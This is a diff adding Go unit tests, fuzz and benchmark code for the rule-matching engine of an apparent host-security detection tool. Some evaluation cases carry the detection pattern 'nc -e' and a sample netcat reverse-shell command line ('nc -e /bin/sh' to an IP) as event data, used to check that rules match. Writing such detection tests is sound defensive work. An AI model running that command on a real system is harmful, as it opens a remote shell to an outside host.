@@ -1,0 +1,154 @@
+package engine
+
+import (
+	"bufio"
+	"bytes"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/vigil-sec/vigil/internal/event"
+)
+
+// TestParseErrors checks every file in testdata/invalid is refused with the error its
+// first line announces ("# error: <file>:<line>: rule <name>: <message prefix>").
+func TestParseErrors(t *testing.T) {
+	files, err := filepath.Glob("testdata/invalid/*.yaml")
+	if err != nil || len(files) == 0 {
+		t.Fatalf("no invalid fixtures: %v", err)
+	}
+	for _, file := range files {
+		t.Run(filepath.Base(file), func(t *testing.T) {
+			data, err := os.ReadFile(file)
+			if err != nil {
+				t.Fatal(err)
+			}
+			first, _, _ := bufio.NewReader(bytes.NewReader(data)).ReadLine()
+			want, ok := strings.CutPrefix(string(first), "# error: ")
+			if !ok {
+				t.Fatalf("first line must be '# error: ...', got %q", first)
+			}
+			_, err = Parse(filepath.Base(file), data)
+			if err == nil {
+				t.Fatalf("Parse accepted an invalid rule; want error %q", want)
+			}
+			if !strings.HasPrefix(err.Error(), want) {
+				t.Errorf("error\n got %q\nwant prefix %q", err, want)
+			}
+		})
+	}
+}
+
+const base = `
+response:
+  - action: report
+    name: r
+    metadata:
+      severity: high
+      category: test
+detection:
+  event: NEW_PROCESS
+`
+
+func TestEval(t *testing.T) {
+	proc := func(path, cmd, user string) event.Event {
+		return event.Event{Type: event.NewProcess, FilePath: path, CommandLine: cmd, User: user, PID: 10, Tags: []string{"env:prod"}}
+	}
+	tests := []struct {
+		name  string
+		rule  string
+		ev    event.Event
+		match bool
+	}{
+		{"is", "  op: is\n  path: event/FILE_PATH\n  value: /bin/sh", proc("/bin/sh", "", ""), true},
+		{"is differs", "  op: is\n  path: event/FILE_PATH\n  value: /bin/sh", proc("/bin/bash", "", ""), false},
+		{"is case", "  op: is\n  path: event/FILE_PATH\n  value: /BIN/SH", proc("/bin/sh", "", ""), false},
+		{"is case insensitive", "  op: is\n  case sensitive: false\n  path: event/FILE_PATH\n  value: /BIN/SH", proc("/bin/sh", "", ""), true},
+		{"contains", "  op: contains\n  path: event/COMMAND_LINE\n  value: nc -e", proc("", "nc -e /bin/sh 1.2.3.4", ""), true},
+		{"contains no", "  op: contains\n  path: event/COMMAND_LINE\n  value: nc -e", proc("", "ncat 1.2.3.4", ""), false},
+		{"contains fold", "  op: contains\n  case sensitive: false\n  path: event/COMMAND_LINE\n  value: NC -E", proc("", "x nc -e y", ""), true},
+		{"starts with", "  op: starts with\n  path: event/FILE_PATH\n  value: /tmp/", proc("/tmp/x", "", ""), true},
+		{"ends with", "  op: ends with\n  path: event/FILE_PATH\n  value: .sh", proc("/tmp/x.sh", "", ""), true},
+		{"not", "  op: is\n  not: true\n  path: event/USER\n  value: root", proc("", "", "alice"), true},
+		{"number", "  op: is\n  path: event/PROCESS_ID\n  value: 10", proc("", "", ""), true},
+		{"tag", "  op: is\n  path: routing/tags\n  value: env:prod", proc("", "", ""), true},
+		{"tag absent", "  op: is\n  path: routing/tags\n  value: env:dev", proc("", "", ""), false},
+		{"or", "  op: or\n  rules:\n    - op: is\n      path: event/USER\n      value: bob\n    - op: is\n      path: event/USER\n      value: alice", proc("", "", "alice"), true},
+		{"or none", "  op: or\n  rules:\n    - op: is\n      path: event/USER\n      value: bob\n    - op: is\n      path: event/USER\n      value: carol", proc("", "", "alice"), false},
+		{"and", "  op: and\n  rules:\n    - op: is\n      path: event/USER\n      value: alice\n    - op: starts with\n      path: event/FILE_PATH\n      value: /usr", proc("/usr/bin/id", "", "alice"), true},
+		{"and one fails", "  op: and\n  rules:\n    - op: is\n      path: event/USER\n      value: alice\n    - op: starts with\n      path: event/FILE_PATH\n      value: /usr", proc("/bin/id", "", "alice"), false},
+		{"wrong type", "  op: is\n  path: event/FILE_PATH\n  value: /bin/sh", event.Event{Type: event.TerminateProcess, FilePath: "/bin/sh"}, false},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			r, err := Parse(tc.name+".yaml", []byte(base+tc.rule))
+			if err != nil {
+				t.Fatal(err)
+			}
+			eng, err := New([]*Rule{r})
+			if err != nil {
+				t.Fatal(err)
+			}
+			got := eng.Eval(&tc.ev, nil)
+			if (len(got) == 1) != tc.match {
+				t.Fatalf("Eval matched %d rules, want match=%v", len(got), tc.match)
+			}
+			if r.Matches(&tc.ev) != tc.match {
+				t.Fatalf("Matches = %v, want %v", !tc.match, tc.match)
+			}
+			if rep := r.Report(); rep == nil || rep.Name != "r" || rep.Severity() != "high" || rep.Metadata["category"] != "test" {
+				t.Fatalf("report = %+v", rep)
+			}
+		})
+	}
+}
+
+func TestNewRejectsDuplicateNames(t *testing.T) {
+	r1, err := Parse("a/x.yaml", []byte(base+"  op: is\n  path: event/USER\n  value: a"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r2, err := Parse("b/x.yaml", []byte(base+"  op: is\n  path: event/USER\n  value: b"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := New([]*Rule{r1, r2}); err == nil || !strings.Contains(err.Error(), "a/x.yaml and b/x.yaml") {
+		t.Fatalf("err = %v, want both files named", err)
+	}
+}
+
+func FuzzParse(f *testing.F) {
+	files, _ := filepath.Glob("testdata/invalid/*.yaml")
+	for _, file := range files {
+		data, _ := os.ReadFile(file)
+		f.Add(data)
+	}
+	f.Add([]byte(base + "  op: is\n  path: event/USER\n  value: a"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		r, err := Parse("fuzz.yaml", data)
+		if err != nil {
+			return
+		}
+		ev := event.Event{Type: r.Events[0], User: "a", CommandLine: "x"}
+		r.Matches(&ev)
+	})
+}
+
+func BenchmarkEval(b *testing.B) {
+	rs, err := Load(os.DirFS("../../rules"), ".")
+	if err != nil {
+		b.Fatal(err)
+	}
+	eng, err := New(rs)
+	if err != nil {
+		b.Fatal(err)
+	}
+	ev := event.Event{Type: event.NewProcess, FilePath: "/usr/bin/docker", CommandLine: "docker run -it --rm alpine sh -c 'echo hello'", User: "root"}
+	dst := make([]*Rule, 0, 8)
+	b.ReportAllocs()
+	for b.Loop() {
+		dst = eng.Eval(&ev, dst[:0])
+	}
+	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
+}
